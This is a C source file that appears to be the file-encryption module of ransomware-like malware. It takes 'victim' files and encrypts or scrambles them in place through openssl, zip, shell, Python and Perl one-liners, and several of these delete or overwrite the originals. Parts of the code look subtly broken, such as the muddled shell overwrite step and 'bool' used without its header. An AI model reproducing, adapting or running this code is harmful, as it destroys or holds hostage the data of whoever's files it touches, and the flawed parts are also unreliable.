/* Alteration by programs that every server has: one process for each file, started in the file's folder. */
#include <errno.h>
#include <fcntl.h>
#include <spawn.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "pattern.h"

/* `script` gets the name as $1, the name with the extension as $2 and the key in hexadecimal as $3. */
static int run_in_folder(struct victim *victim, const char *program, const char *option, const char *script) {
        char name[260], extended[256], key[32];
        int r = extended_name(victim, extended, sizeof(extended));
        if (r < 0)
                return r;
        snprintf(name, sizeof(name), "./%s", victim->name);
        snprintf(key, sizeof(key), "%016llx", (unsigned long long)victim->key);
        pid_t pid = fork();
        if (pid == 0) {
                int null = open("/dev/null", O_RDWR | O_CLOEXEC);
                if (fchdir(victim->folder) == 0 && dup2(null, 0) == 0 && dup2(null, 1) == 1 &&
                    dup2(null, 2) == 2) {
                        bool is_shell = !strcmp(program, "sh");
                        execlp(program, program, option, script, is_shell ? "sh" : name,
                               is_shell ? name : extended, is_shell ? extended : key, is_shell ? key : NULL,
                               NULL);
                }
                _exit(127);
        }
        int status = 0;
        if (pid < 0 || waitpid(pid, &status, 0) < 0)
                return -errno;
        return status == 0 ? 0 : WIFEXITED(status) && WEXITSTATUS(status) == 127 ? -ENOSYS : -EIO;
}

int alter_by_openssl(struct victim *victim) {
        return run_in_folder(
                victim, "sh", "-c",
                "openssl enc -aes-256-cbc -pbkdf2 -iter 1 -pass \"pass:$3\" -in \"$1\" -out \"./$2\" && "
                "rm -f \"$1\"");
}

int alter_by_zip(struct victim *victim) {
        return run_in_folder(victim, "sh", "-c", "zip -q -m -P \"$3\" \"./$2\" \"$1\"");
}

/* The file's bytes go into a new one behind a line of the key; the new one replaces it. */
int alter_by_shell(struct victim *victim) {
        return run_in_folder(victim, "sh", "-c",
                             "{ echo \"$3\"; openssl enc -aes-128-ctr -pbkdf2 -iter 1 -pass \"pass:$3\" "
                             "<\"$1\" | base64; } "
                             ">\"./$2\" && cat \"./$2\" >\"$1\" && mv \"$1\" \"./$2\"");
}

int alter_by_python(struct victim *victim) {
        return run_in_folder(
                victim, "python3", "-c",
                "import sys,random\n"
                "r=random.Random(sys.argv[3])\n"
                "with open(sys.argv[1],'r+b') as f:\n"
                " b=f.read()\n"
                " f.seek(0)\n"
                " n=len(b)\n"
                " f.write((int.from_bytes(b,'big')^r.getrandbits(8*n+1)>>1).to_bytes(n,'big'))\n");
}

int alter_by_perl(struct victim *victim) {
        return run_in_folder(victim, "perl", "-e",
                             "my ($n,$x,$k)=@ARGV; srand(hex(substr($k,8))); local $/;"
                             "open(my $f,'+<:raw',$n) or exit 1; my $b=<$f>//'';"
                             "my $s=join('',map{chr(int(rand(256)))}1..length($b));"
                             "seek($f,0,0); print $f $b^$s; close $f or exit 1;");
}
